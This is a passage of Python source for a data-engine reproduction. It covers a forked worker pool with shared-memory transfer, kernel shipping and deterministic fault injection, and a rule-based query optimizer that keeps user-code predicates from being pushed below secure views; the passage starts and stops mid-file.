  once per (worker, fingerprint), the worker compiles it through its own
  :class:`~repro.engine.compile.KernelCompiler` and caches the bound kernel
  under the fingerprint, mirroring the driver-side ``KernelCache``;
- **fault schedules** — :meth:`FaultInjector.export_schedule` output, so
  the chaos engine's seeded schedules keep firing *deterministically*
  inside workers (each worker continues the exact RNG stream the driver
  exported; per-task trigger deltas merge back via
  :meth:`FaultInjector.merge_remote`).

Determinism contract: tasks are assigned round-robin by a global submission
sequence number (``seq % pool_size``), so a given submission order maps to
identical per-worker call sequences — and therefore identical fault
triggers — across runs with the same seed.

Failure semantics: a worker that dies mid-task (pipe EOF) is respawned and
the task retried a bounded number of times (``record_recovery`` notes the
respawn). A *retryable* error raised inside a worker (including injected
``worker.task`` faults) is re-raised driver-side carrying the original
exception object; eval tasks absorb a bounded number of such errors at the
pool layer, scan tasks propagate them to ``GovernedDataSource``'s existing
retry/hedging machinery so PR-5 recovery semantics are preserved verbatim.
"""

from __future__ import annotations

import multiprocessing
import pickle
import threading
import weakref

# Imported at module scope on purpose: forked workers inherit the loaded
# module, so the child never runs a first-time import. A lazy import inside
# the child can deadlock on the interpreter's import lock if the driver
# forked while another of its threads was mid-import.
import cloudpickle
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any, Callable, Iterator, Sequence

from repro.common import shmbuf
from repro.common.context import QueryContext, _CURRENT
from repro.common.faults import FaultInjector
from repro.common.telemetry import Telemetry
from repro.engine.batch import ColumnBatch
from repro.engine.compile import (
    CompiledKernels,
    KernelCompiler,
    PipelineSpec,
    interpret_pipeline,
    pipeline_partial_columns,
)
from repro.engine.expressions import EvalContext, Expression
from repro.errors import CorruptObjectError, ExecutionError, RetryableError

#: Bounded respawn-and-retry attempts after a worker process dies mid-task.
DEATH_RETRIES = 2

#: Pool start method. ``fork`` keeps worker spawn cheap (no re-import, no
#: arg pickling) and is available on every platform the repo targets.
_START_METHOD = "fork"


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------


def _fresh_child_state() -> None:
    """Reset state a forked child must not share with the driver.

    The child inherits the driver's ambient query context (contextvar) and
    — critically — its shared-memory leak-guard registry: left alone, the
    worker's ``atexit`` hook would unlink segments the *driver* still owns.
    """
    _CURRENT.set(None)
    shmbuf._live_segments.clear()  # noqa: SLF001 - deliberate fork reset
    shmbuf._live_lock = threading.Lock()  # noqa: SLF001
    # The inherited resource tracker may carry a lock another driver thread
    # held at fork time — the first SharedMemory call would deadlock on it.
    shmbuf.disable_resource_tracking()


def _install_kernel(
    compiler: KernelCompiler,
    kernels: dict[str, dict[str, Any]],
    spec: dict[str, Any],
) -> dict[str, Any]:
    """Rehydrate (or fetch) the kernel for one fingerprint in-worker."""
    fingerprint = spec["fingerprint"]
    entry = kernels.get(fingerprint)
    if entry is not None:
        return entry
    blob = spec.get("blob")
    if blob is None:
        raise ExecutionError(
            f"worker has no kernel {fingerprint[:12]} and no blob was shipped"
        )
    exprs = cloudpickle.loads(blob)
    if spec["mode"] == "pipeline":
        # ``exprs`` is a whole PipelineSpec (fused chain→aggregate), not an
        # expression tuple; the worker rebuilds the same generated loop from
        # it through its own compiler/cache.
        kernel: Any = compiler.compile_pipeline_spec(exprs)
    elif spec["mode"] == "filter-project":
        kernel = compiler.compile_filter_projection(exprs[0], exprs[1:])
    else:
        kernel = compiler.compile_projection(exprs)
    # ``kernel`` may be None (compile refused); the interpreter fallback
    # below uses the shipped expressions directly, so either way the task
    # produces the same answer as the thread backend.
    entry = {"kernel": kernel, "exprs": exprs, "mode": spec["mode"]}
    kernels[fingerprint] = entry
    return entry


def _eval_kernel(
    entry: dict[str, Any], batch: ColumnBatch, ectx: EvalContext
) -> list[list[Any]]:
    """Run a rehydrated kernel (or its interpreter fallback) on one batch."""
    if entry["mode"] == "pipeline":
        # Fused chain→aggregate: fold the batch into fresh local groups and
        # return a partial-aggregate batch (keys + pickled states) that the
        # driver merges exactly like eFGAC partials.
        spec: PipelineSpec = entry["exprs"]
        groups: dict[tuple, list[Any]] = {}
        pipeline = entry["kernel"]
        if pipeline is not None:
            pipeline.accumulate(batch, ectx, groups, [None, None])
        else:
            interpret_pipeline(spec, batch, ectx, groups)
        return pipeline_partial_columns(spec, groups)
    kernel: CompiledKernels | None = entry["kernel"]
    if kernel is not None:
        return kernel.eval_all(batch, ectx)
    exprs = entry["exprs"]
    if entry["mode"] == "filter-project":
        filtered = batch.filter(exprs[0].eval(batch, ectx))
        return [e.eval(filtered, ectx) for e in exprs[1:]]
    return [e.eval(batch, ectx) for e in exprs]


def _run_eval_task(
    task: dict[str, Any],
    buf: memoryview,
    compiler: KernelCompiler,
    kernels: dict[str, dict[str, Any]],
    ectx: EvalContext,
    info: dict[str, Any],
) -> tuple[list, int]:
    batch = ColumnBatch(
        task["schema"], shmbuf.decode_columns(task["meta"], buf)
    )
    info["rows_in"] = batch.num_rows
    entry = _install_kernel(compiler, kernels, task["kernel"])
    kmode = task["kmode"]
    if kmode == "filter":
        out = batch.filter(_eval_kernel(entry, batch, ectx)[0])
        return out.columns, out.num_rows
    outputs = _eval_kernel(entry, batch, ectx)
    if kmode in ("filter_project", "pipeline"):
        # Output cardinality is data-dependent (filtered rows / groups).
        num_rows = len(outputs[0]) if outputs else 0
    else:  # "project"
        num_rows = batch.num_rows
    return outputs, num_rows


def _run_scan_task(
    task: dict[str, Any],
    buf: memoryview,
    compiler: KernelCompiler,
    kernels: dict[str, dict[str, Any]],
    ectx: EvalContext,
    info: dict[str, Any],
) -> tuple[list, int]:
    blob = bytes(buf[: task["blob_len"]])
    try:
        data = pickle.loads(blob)
    except Exception as exc:  # noqa: BLE001 - any unpickle failure
        # Same classification as LakeTableStorage.read_file: a mangled blob
        # is retryable, and the driver re-reads the object from storage.
        raise CorruptObjectError(
            f"data file for '{task.get('table', '?')}' is corrupt in-worker: "
            f"{type(exc).__name__}: {exc}"
        ) from exc
    batch = ColumnBatch.from_dict(task["schema"], data)
    info["rows_in"] = batch.num_rows
    filters_blob = task.get("filters_blob")
    if filters_blob is not None:
        for predicate in cloudpickle.loads(filters_blob):
            batch = batch.filter(predicate.eval(batch, ectx))
    indices = task.get("required_indices")
    if indices is not None:
        # Prune before any fused kernel: its BoundRefs are resolved against
        # the pruned layout, exactly as in the thread path.
        batch = batch.select_indices(indices)
    if task.get("kernel") is not None:
        entry = _install_kernel(compiler, kernels, task["kernel"])
        outputs = _eval_kernel(entry, batch, ectx)
        return outputs, (len(outputs[0]) if outputs else 0)
    return batch.columns, batch.num_rows


def _fault_deltas(
    injector: FaultInjector, last: dict[str, tuple[int, int]]
) -> dict[str, dict[str, int]]:
    """Per-point call/trigger increments since the previous report."""
    deltas: dict[str, dict[str, int]] = {}
    for point in list(last):
        calls = injector.call_count(point)
        triggered = injector.trigger_count(point)
        prev_calls, prev_triggered = last[point]
        if calls != prev_calls or triggered != prev_triggered:
            deltas[point] = {
                "calls": calls - prev_calls,
                "triggered": triggered - prev_triggered,
            }
            last[point] = (calls, triggered)
    return deltas


def _worker_main(conn, init: dict[str, Any]) -> None:
    """Worker process loop: serve task/ping requests until shutdown."""
    _fresh_child_state()
    faults: FaultInjector | None = None
    fault_last: dict[str, tuple[int, int]] = {}
    if init.get("faults") is not None:
        faults = FaultInjector.from_export(init["faults"])
        fault_last = {point: (0, 0) for point in init["faults"]["points"]}
        for point, entry in init["faults"]["points"].items():
            fault_last[point] = (entry["calls"], entry["triggered"])
    compiler = KernelCompiler()
    kernels: dict[str, dict[str, Any]] = {}
    cluster_id = init.get("cluster_id", "")

    while True:
        try:
            message = conn.recv()
        except (EOFError, OSError, KeyboardInterrupt):
            return
        kind = message[0]
        if kind == "shutdown":
            try:
                conn.send(("bye",))
            except (OSError, BrokenPipeError):
                pass
            return
        if kind == "ping":
            conn.send(("pong",))
            continue

        _, seq, task = message
        info: dict[str, Any] = {"rows_in": 0, "rows_out": 0}
        shm_in = None
        try:
            qctx = QueryContext.create(
                user=task.get("user", "anonymous"),
                trace_id=task.get("trace_id") or None,
                session_id=task.get("session_id", ""),
                cluster_id=task.get("cluster_id") or cluster_id,
            )
            ectx = EvalContext(
                user=task.get("user", "anonymous"),
                groups=frozenset(task.get("groups", ())),
                query_ctx=qctx,
            )
            with qctx.activate():
                # The worker-side chaos point: seeded schedules shipped from
                # the driver fire here, deterministically per (worker, call).
                if faults is not None:
                    faults.fire("worker.task")
                shm_in = shmbuf.attach_segment(task["shm"])
                runner = _run_scan_task if task["op"] == "scan" else _run_eval_task
                columns, num_rows = runner(
                    task, shm_in.buf, compiler, kernels, ectx, info
                )
            info["rows_out"] = num_rows
            out_meta, payload = shmbuf.encode_columns(columns, num_rows)
            out_shm = shmbuf.create_segment(payload)
            # Ownership moves to the driver, which adopts + unlinks.
            shmbuf.transfer_segment(out_shm)
            out_name = out_shm.name
            out_shm.close()
            reply: tuple = ("ok", seq, out_name, out_meta, info)
        except BaseException as exc:  # noqa: BLE001 - report, don't die
            retryable = isinstance(exc, RetryableError)
            try:
                pickle.dumps(exc)
            except Exception:  # noqa: BLE001 - unpicklable user exception
                exc = RuntimeError(f"{type(exc).__name__}: {exc}")
            reply = ("err", seq, exc, retryable, info)
        finally:
            if shm_in is not None:
                shm_in.close()
        if faults is not None:
            info["faults"] = _fault_deltas(faults, fault_last)
        try:
            conn.send(reply)
        except (OSError, BrokenPipeError):
            return


# ---------------------------------------------------------------------------
# Driver side
# ---------------------------------------------------------------------------


@dataclass
class WorkerPoolStats:
    """Cumulative pool counters (all numeric: rendered by ``cache_stats``)."""

    tasks_dispatched: int = 0
    task_retries: int = 0
    workers_respawned: int = 0
    shm_bytes_sent: int = 0
    shm_bytes_received: int = 0
    shm_bytes_in_flight: int = 0
    #: Row bytes that crossed the boundary as shared-memory buffers instead
    #: of pickle frames (the ``obj``-fallback's pickled bytes are excluded —
    #: those still paid serialization, inside the segment).
    serialization_bytes_saved: int = 0
    kernels_shipped: int = 0


class _Worker:
    """One slot: process handle, duplex pipe, per-slot dispatch lock."""

    __slots__ = ("index", "proc", "conn", "lock", "shipped")

    def __init__(self, index: int):
        self.index = index
        self.proc = None
        self.conn = None
        self.lock = threading.Lock()
        #: Kernel fingerprints this worker has acknowledged (reset on respawn).
        self.shipped: set[str] = set()


def _shutdown_workers(workers: list[_Worker], io: ThreadPoolExecutor) -> None:
    """Tear down every worker (module-level so finalizers don't hold the pool)."""
    for worker in workers:
        conn, proc = worker.conn, worker.proc
        worker.conn = None
        worker.proc = None
        if conn is not None:
            try:
                conn.send(("shutdown",))
                if conn.poll(0.5):
                    conn.recv()
            except (OSError, BrokenPipeError, EOFError):
                pass
            try:
                conn.close()
            except OSError:
                pass
        if proc is not None:
            proc.join(timeout=1.0)
            if proc.is_alive():
                proc.terminate()
                proc.join(timeout=1.0)
    io.shutdown(wait=False, cancel_futures=True)


class WorkerPool:
    """A warm pool of forked worker processes executing query tasks.

    Thread-safe; submissions from concurrent driver threads are assigned
    deterministically round-robin and each slot serves one task at a time
    (a synchronous pipe round-trip run on an internal I/O thread, so
    :meth:`submit` itself returns a :class:`Future` immediately).
    """

    def __init__(
        self,
        size: int,
        faults: FaultInjector | None = None,
        cluster_id: str = "",
        telemetry: Telemetry | None = None,
    ):
        self.size = max(1, int(size))
        self._faults = faults
        self._cluster_id = cluster_id
        self._telemetry = telemetry
        self._mp = multiprocessing.get_context(_START_METHOD)
        self._workers = [_Worker(i) for i in range(self.size)]
        self._seq = 0
        self._seq_lock = threading.Lock()
        self._started = False
        self._start_lock = threading.Lock()
        self._closed = False
        self._io = ThreadPoolExecutor(
            max_workers=self.size, thread_name_prefix="lakeguard-pool-io"
        )
        self.stats = WorkerPoolStats()
        self._stats_lock = threading.Lock()
        #: fingerprint -> cloudpickled expression tuple, built once.
        self._blob_cache: dict[str, bytes] = {}
        self._finalizer = weakref.finalize(
            self, _shutdown_workers, self._workers, self._io
        )

    # -- lifecycle -----------------------------------------------------------

    def prewarm(self) -> None:
        """Spawn every worker now (first :meth:`submit` otherwise does it).

        Forking all workers up-front, before any task buffers exist, keeps
        children from inheriting mid-operation driver state.
        """
        with self._start_lock:
            if self._started:
                return
            for worker in self._workers:
                self._spawn(worker)
            self._started = True

    def _spawn(self, worker: _Worker) -> None:
        parent_conn, child_conn = self._mp.Pipe()
        init = {
            "faults": (
                self._faults.export_schedule()
                if self._faults is not None
                else None
            ),
            "cluster_id": self._cluster_id,
            "index": worker.index,
        }
        proc = self._mp.Process(
            target=_worker_main,
            args=(child_conn, init),
            daemon=True,
            name=f"lakeguard-worker-{worker.index}",
        )
        proc.start()
        child_conn.close()
        worker.proc = proc
        worker.conn = parent_conn
        worker.shipped = set()

    def _respawn(self, worker: _Worker) -> None:
        if worker.conn is not None:
            try:
                worker.conn.close()
            except OSError:
                pass
        if worker.proc is not None:
            worker.proc.join(timeout=0.5)
            if worker.proc.is_alive():
                worker.proc.terminate()
                worker.proc.join(timeout=0.5)
        self._spawn(worker)
        with self._stats_lock:
            self.stats.workers_respawned += 1
        if self._faults is not None:
            self._faults.record_recovery("worker.respawn")

    def close(self) -> None:
        """Shut every worker down and release pool resources (idempotent)."""
        self._closed = True
        self._finalizer()

    @property
    def closed(self) -> bool:
        return self._closed

    def workers_alive(self) -> int:
        return sum(
            1
            for w in self._workers
            if w.proc is not None and w.proc.is_alive()
        )

    # -- kernel shipping -----------------------------------------------------

    def kernel_spec(
        self,
        kernel: Any,
        exprs: Sequence[Expression] | PipelineSpec,
        mode: str,
    ) -> dict[str, Any]:
        """Build the shippable descriptor for one compiled kernel.

        The cloudpickled payload — an expression tuple, or the whole
        :class:`PipelineSpec` for ``mode="pipeline"`` — is cached per
        fingerprint and attached to the wire message only for workers that
        have not acked this fingerprint yet; after that, the fingerprint
        alone travels.
        """
        fingerprint = kernel.fingerprint
        if fingerprint not in self._blob_cache:
            payload = exprs if mode == "pipeline" else tuple(exprs)
            self._blob_cache[fingerprint] = cloudpickle.dumps(payload)
        return {"fingerprint": fingerprint, "mode": mode}

    # -- submission ----------------------------------------------------------

    def submit(
        self,
        task: dict[str, Any],
        payload: bytes,
        payload_pickled_bytes: int = 0,
        retries: int = 0,
    ) -> "Future[tuple[list, int, dict[str, Any]]]":
        """Dispatch one task; resolves to ``(columns, num_rows, info)``.

        ``retries`` bounds pool-level retries of *retryable* worker errors
        (worker deaths are always retried up to :data:`DEATH_RETRIES`).
        A task that still fails re-raises the worker's exception here.
        """
        if self._closed:
            raise ExecutionError("worker pool is closed")
        if not self._started:
            self.prewarm()
        with self._seq_lock:
            seq = self._seq
            self._seq += 1
        worker = self._workers[seq % self.size]
        return self._io.submit(
            self._run_on_worker, worker, seq, task, payload,
            payload_pickled_bytes, retries,
        )

    def _run_on_worker(
        self,
        worker: _Worker,
        seq: int,
        task: dict[str, Any],
        payload: bytes,
        payload_pickled_bytes: int,
        retries: int,
    ) -> tuple[list, int, dict[str, Any]]:
        err_budget = retries
        death_budget = DEATH_RETRIES
        retried = False
        with worker.lock:
            while True:
                try:
                    result = self._attempt(
                        worker, seq, task, payload, payload_pickled_bytes
                    )
                except _WorkerDied:
                    self._respawn(worker)
                    if death_budget <= 0:
                        raise ExecutionError(
                            f"worker {worker.index} died repeatedly running "
                            f"task seq={seq}"
                        ) from None
                    death_budget -= 1
                    retried = True
                    self._count_retry()
                    continue
                except RetryableError:
                    if err_budget <= 0:
                        raise
                    err_budget -= 1
                    retried = True
                    self._count_retry()
                    continue
                if retried and self._faults is not None:
                    self._faults.record_recovery("worker.task_retry")
                return result

    def _attempt(
        self,
        worker: _Worker,
        seq: int,
        task: dict[str, Any],
        payload: bytes,
        payload_pickled_bytes: int,
    ) -> tuple[list, int, dict[str, Any]]:
        if worker.proc is None or not worker.proc.is_alive():
            self._respawn(worker)
        wire = dict(task)
        kernel_spec = task.get("kernel")
        shipped_blob = False
        if kernel_spec is not None:
            fingerprint = kernel_spec["fingerprint"]
            if fingerprint not in worker.shipped:
                wire["kernel"] = dict(
                    kernel_spec, blob=self._blob_cache[fingerprint]
                )
                shipped_blob = True
        shm_in = shmbuf.create_segment(payload)
        wire["shm"] = shm_in.name
        with self._stats_lock:
            self.stats.tasks_dispatched += 1
            self.stats.shm_bytes_sent += len(payload)
            self.stats.shm_bytes_in_flight += len(payload)
        try:
            try:
                worker.conn.send(("task", seq, wire))
                reply = worker.conn.recv()
            except (EOFError, OSError, BrokenPipeError) as exc:
                raise _WorkerDied(str(exc)) from exc
        finally:
            shmbuf.release_segment(shm_in)
            with self._stats_lock:
                self.stats.shm_bytes_in_flight -= len(payload)
        # Any reply means the worker processed the message — including the
        # kernel install, which precedes task evaluation failures.
        if shipped_blob:
            worker.shipped.add(kernel_spec["fingerprint"])
            with self._stats_lock:
                self.stats.kernels_shipped += 1

        kind = reply[0]
        if kind == "ok":
            _, rseq, out_name, out_meta, info = reply
            self._merge_info(info)
            out_shm = shmbuf.adopt_segment(out_name)
            try:
                columns = shmbuf.decode_columns(out_meta, out_shm.buf)
            finally:
                shmbuf.release_segment(out_shm)
            out_nbytes = out_meta.get("nbytes", 0)
            with self._stats_lock:
                self.stats.shm_bytes_received += out_nbytes
                self.stats.serialization_bytes_saved += max(
                    0, len(payload) - payload_pickled_bytes
                ) + max(0, out_nbytes - out_meta.get("pickled_bytes", 0))
            return columns, out_meta["num_rows"], info
        if kind == "err":
            _, rseq, exc, retryable, info = reply
            self._merge_info(info)
            raise exc
        raise ExecutionError(f"unexpected worker reply kind {kind!r}")

    def _count_retry(self) -> None:
        with self._stats_lock:
            self.stats.task_retries += 1

    def _merge_info(self, info: dict[str, Any]) -> None:
        deltas = info.get("faults")
        if deltas and self._faults is not None:
            self._faults.merge_remote(deltas)

    # -- observability -------------------------------------------------------

    def stats_snapshot(self) -> dict[str, Any]:
        """Numeric counters for ``system.access.cache_stats``."""
        with self._stats_lock:
            return {
                "pool_size": float(self.size),
                "workers_alive": float(self.workers_alive()),
                "tasks_dispatched": float(self.stats.tasks_dispatched),
                "task_retries": float(self.stats.task_retries),
                "workers_respawned": float(self.stats.workers_respawned),
                "shm_bytes_sent": float(self.stats.shm_bytes_sent),
                "shm_bytes_received": float(self.stats.shm_bytes_received),
                "shm_bytes_in_flight": float(self.stats.shm_bytes_in_flight),
                "serialization_bytes_saved": float(
                    self.stats.serialization_bytes_saved
                ),
                "kernels_shipped": float(self.stats.kernels_shipped),
            }


class _WorkerDied(Exception):
    """Internal: the pipe to a worker broke mid round-trip."""


def run_windowed(
    pool: WorkerPool,
    items: Iterator[Any],
    submit_one: Callable[[Any], "Future[Any]"],
    window: int | None = None,
) -> Iterator[Any]:
    """Submit ``items`` keeping up to ``window`` tasks in flight; yield
    results in submission order (the streaming shape operators need)."""
    from collections import deque

    limit = window if window is not None else pool.size
    pending: deque = deque()
    for item in items:
        pending.append(submit_one(item))
        while len(pending) >= max(1, limit):
            yield pending.popleft().result()
    while pending:
        yield pending.popleft().result()
