"""Rule-based logical optimizer.

The governance-critical behaviours:

- **SecureView is a pushdown barrier for unsafe expressions.** A filter may
  move below a :class:`SecureView` only when it is deterministic and contains
  no user code; otherwise a malicious UDF-predicate would observe rows the
  policy filters out (§3.4 "prevents the propagation of unsafe expressions").
- **UDF fusion with trust-domain pipeline breaking** (§3.3): adjacent Python
  UDF calls belonging to the *same* trust domain are fused into one sandbox
  round-trip; calls owned by different users never share a group.

Every rule is a small class with ``apply(plan) -> plan``; the optimizer runs
the rewrite rules to a fixed point and finishes with one fusion pass.
Lakeguard's eFGAC rules (:mod:`repro.core.efgac`) are injected via
``extra_rules``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Protocol, Sequence

from repro.engine.batch import ONE_ROW
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    Cast,
    Comparison,
    EvalContext,
    Expression,
    FunctionCall,
    IsNull,
    Literal,
    Not,
    PythonUDFCall,
    contains_user_code,
)
from repro.engine.logical import (
    Filter,
    LocalRelation,
    LogicalPlan,
    Project,
    Scan,
    SecureView,
)

MAX_PASSES = 10

#: Expression node types that are safe to constant-fold when all inputs are
#: literals. Session-dependent nodes (CurrentUser, IsAccountGroupMember) and
#: user code are deliberately excluded.
_FOLDABLE = (Arithmetic, Comparison, BooleanOp, Not, FunctionCall, Cast, IsNull)


class Rule(Protocol):
    """A whole-plan rewrite; must be a no-op when its pattern is absent."""

    name: str

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        """Return the rewritten plan (or the input plan unchanged)."""
        ...


# ---------------------------------------------------------------------------
# Expression helpers
# ---------------------------------------------------------------------------


def substitute_refs(expr: Expression, mapping: dict[int, Expression]) -> Expression:
    """Replace BoundRef positions using ``mapping`` (for pushdown remapping)."""

    def rewrite(node: Expression) -> Expression:
        if isinstance(node, BoundRef):
            replacement = mapping.get(node.index)
            if replacement is None:
                raise KeyError(node.index)
            return replacement
        return node

    return expr.transform(rewrite)


def is_safe_to_push(expr: Expression) -> bool:
    """Only deterministic, engine-only expressions may cross a barrier."""
    return expr.deterministic and not contains_user_code(expr)


def inline_through_projection(
    expr: Expression, out_exprs: Sequence[Expression] | None
) -> Expression:
    """Rewrite ``expr`` from a projection's *output* schema to its *input*.

    Each ``BoundRef(i)`` is replaced by the projection's i-th expression
    (aliases unwrapped), so a consumer above the projection can be composed
    directly over the projection's child — the substitution step behind the
    physical planner's pipeline fusion. ``None`` means identity (no
    projection between consumer and producer). Safe only for deterministic,
    engine-only expressions; the planner refuses opaque nodes before
    composing.
    """
    if out_exprs is None:
        return expr
    mapping = {
        i: (e.child if isinstance(e, Alias) else e)
        for i, e in enumerate(out_exprs)
    }
    return substitute_refs(expr, mapping)


def _simple_projection_mapping(project: Project) -> dict[int, Expression] | None:
    """If every projection is a plain column ref (or aliased ref / literal),
    return output-position → input-expression; else None."""
    mapping: dict[int, Expression] = {}
    for out_pos, expr in enumerate(project.exprs):
        inner = expr.child if isinstance(expr, Alias) else expr
        if isinstance(inner, (BoundRef, Literal)):
            mapping[out_pos] = inner
        else:
            return None
    return mapping


def fold_expression(expr: Expression) -> Expression:
    """Bottom-up constant folding."""

    def fold(node: Expression) -> Expression:
        if not isinstance(node, _FOLDABLE):
            return node
        if not node.children or not all(isinstance(c, Literal) for c in node.children):
            return node
        if not node.deterministic or contains_user_code(node):
            return node
        # A single-row, zero-column batch makes vectorized eval produce
        # exactly one value to lift back into a literal.
        values = node.eval(ONE_ROW, EvalContext())
        return Literal(values[0])

    return expr.transform(fold)


# ---------------------------------------------------------------------------
# Rules
# ---------------------------------------------------------------------------


@dataclass
class EliminateSubqueryAliases:
    """Aliases only matter for name resolution; drop them post-analysis."""

    name: str = "EliminateSubqueryAliases"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        from repro.engine.logical import SubqueryAlias

        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if isinstance(node, SubqueryAlias):
                return node.child
            return node

        return plan.transform_up(rewrite)


@dataclass
class FoldConstants:
    """Replace deterministic all-literal subtrees with their value."""

    name: str = "FoldConstants"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if isinstance(node, Filter):
                return Filter(node.child, fold_expression(node.condition))
            if isinstance(node, Project):
                return Project(node.child, [fold_expression(e) for e in node.exprs])
            return node

        return plan.transform_up(rewrite)


@dataclass
class SimplifyFilters:
    """Remove always-true filters; short-circuit always-false ones."""

    name: str = "SimplifyFilters"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not isinstance(node, Filter):
                return node
            cond = node.condition
            if isinstance(cond, Literal):
                if cond.value is True:
                    return node.child
                # False or NULL: no row ever passes.
                schema = node.child.schema
                return LocalRelation(schema, [[] for _ in schema])
            return node

        return plan.transform_up(rewrite)


@dataclass
class CombineFilters:
    """Merge adjacent Filter nodes into one conjunctive predicate."""

    name: str = "CombineFilters"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if isinstance(node, Filter) and isinstance(node.child, Filter):
                inner = node.child
                return Filter(
                    inner.child, BooleanOp("AND", inner.condition, node.condition)
                )
            return node

        return plan.transform_up(rewrite)


@dataclass
class CollapseProjects:
    """Merge Project(Project) when the inner one is a simple mapping."""

    name: str = "CollapseProjects"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Project) and isinstance(node.child, Project)):
                return node
            inner = node.child
            mapping = _simple_projection_mapping(inner)
            if mapping is None:
                return node
            try:
                merged = [substitute_refs(e, mapping) for e in node.exprs]
            except KeyError:
                return node
            # Preserve output names from the outer projection.
            named = [
                e if e.output_name() == orig.output_name() else Alias(e, orig.output_name())
                for e, orig in zip(merged, node.exprs)
            ]
            return Project(inner.child, named)

        return plan.transform_up(rewrite)


@dataclass
class PushFilterThroughProject:
    """Filter(Project(x)) → Project(Filter(x)) for simple projections."""

    name: str = "PushFilterThroughProject"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Filter) and isinstance(node.child, Project)):
                return node
            project = node.child
            mapping = _simple_projection_mapping(project)
            if mapping is None:
                return node
            try:
                pushed = substitute_refs(node.condition, mapping)
            except KeyError:
                return node
            return Project(Filter(project.child, pushed), project.exprs)

        return plan.transform_up(rewrite)


@dataclass
class PushFilterBelowSecureView:
    """The barrier rule: only *safe* predicates may cross a SecureView.

    Engine-generated deterministic predicates (e.g. the user's WHERE clause
    on dates) can be combined with the policy's row filter for efficiency;
    anything containing user code or non-determinism stays above the view.
    """

    name: str = "PushFilterBelowSecureView"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Filter) and isinstance(node.child, SecureView)):
                return node
            if not is_safe_to_push(node.condition):
                return node
            barrier = node.child
            return SecureView(
                Filter(barrier.child, node.condition), barrier.name, barrier.owner
            )

        return plan.transform_up(rewrite)


@dataclass
class PushFilterIntoScan:
    """Fold safe predicates into the scan (evaluated pre-projection)."""

    name: str = "PushFilterIntoScan"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Filter) and isinstance(node.child, Scan)):
                return node
            scan = node.child
            if scan.required_columns is not None:
                # Filter indices are relative to the pruned output; keep as-is.
                return node
            if not is_safe_to_push(node.condition):
                return node
            return Scan(
                scan.table,
                scan.required_columns,
                scan.pushed_filters + (node.condition,),
            )

        return plan.transform_up(rewrite)


@dataclass
class PruneScanColumns:
    """Project(Scan) → Project(Scan[required]) column pruning."""

    name: str = "PruneScanColumns"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Project) and isinstance(node.child, Scan)):
                return node
            scan = node.child
            if scan.required_columns is not None:
                return node
            needed = sorted({i for e in node.exprs for i in e.references()})
            if len(needed) >= len(scan.table.schema):
                return node
            remap = {old: BoundRef(new, scan.table.schema[old].name,
                                   scan.table.schema[old].dtype)
                     for new, old in enumerate(needed)}
            new_exprs = [substitute_refs(e, remap) for e in node.exprs]
            return Project(
                Scan(scan.table, tuple(needed), scan.pushed_filters), new_exprs
            )

        return plan.transform_up(rewrite)


@dataclass
class FuseUDFCalls:
    """Assign fusion groups to Python UDF calls, per trust domain (§3.3).

    All UDF calls inside one Project that share a trust domain get the same
    fusion group id; the sandboxed runtime then evaluates a whole group with
    a single sandbox round-trip. Trust domains are pipeline breakers: calls
    owned by different users always land in different groups.
    """

    name: str = "FuseUDFCalls"
    enabled: bool = True
    _next_group: int = 0

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not isinstance(node, Project):
                return node
            calls: list[PythonUDFCall] = [
                e
                for expr in node.exprs
                for e in expr.walk()
                if isinstance(e, PythonUDFCall)
            ]
            if not calls:
                return node
            if not self.enabled:
                for call in calls:
                    call.fusion_group = None
                return node
            groups: dict[str, int] = {}
            for call in calls:
                domain = call.udf.trust_domain
                if domain not in groups:
                    groups[domain] = self._next_group
                    self._next_group += 1
                call.fusion_group = groups[domain]
            return node

        return plan.transform_up(rewrite)


# ---------------------------------------------------------------------------
# The optimizer
# ---------------------------------------------------------------------------


@dataclass
class OptimizerConfig:
    """Feature toggles, primarily for ablation benchmarks."""

    constant_folding: bool = True
    filter_pushdown: bool = True
    column_pruning: bool = True
    udf_fusion: bool = True
    collapse_projects: bool = True
    max_passes: int = MAX_PASSES


class Optimizer:
    """Runs rewrite rules to a fixed point, then the fusion pass."""

    def __init__(
        self,
        config: OptimizerConfig | None = None,
        extra_rules: Sequence[Rule] = (),
    ):
        self.config = config or OptimizerConfig()
        self._rules: list[Rule] = [EliminateSubqueryAliases()]
        if self.config.constant_folding:
            self._rules.append(FoldConstants())
        self._rules.append(SimplifyFilters())
        self._rules.append(CombineFilters())
        if self.config.collapse_projects:
            self._rules.append(CollapseProjects())
        if self.config.filter_pushdown:
            self._rules.append(PushFilterThroughProject())
            self._rules.append(PushFilterBelowSecureView())
            self._rules.append(PushFilterIntoScan())
        if self.config.column_pruning:
            self._rules.append(PruneScanColumns())
        self._rules.extend(extra_rules)
        self._fusion = FuseUDFCalls(enabled=self.config.udf_fusion)

    @property
    def rule_names(self) -> list[str]:
        return [r.name for r in self._rules] + [self._fusion.name]

    def optimize(self, plan: LogicalPlan) -> LogicalPlan:
        """Run rewrite rules to a fixed point, then assign fusion groups."""
        current = plan
        for _ in range(self.config.max_passes):
            before = current.explain()
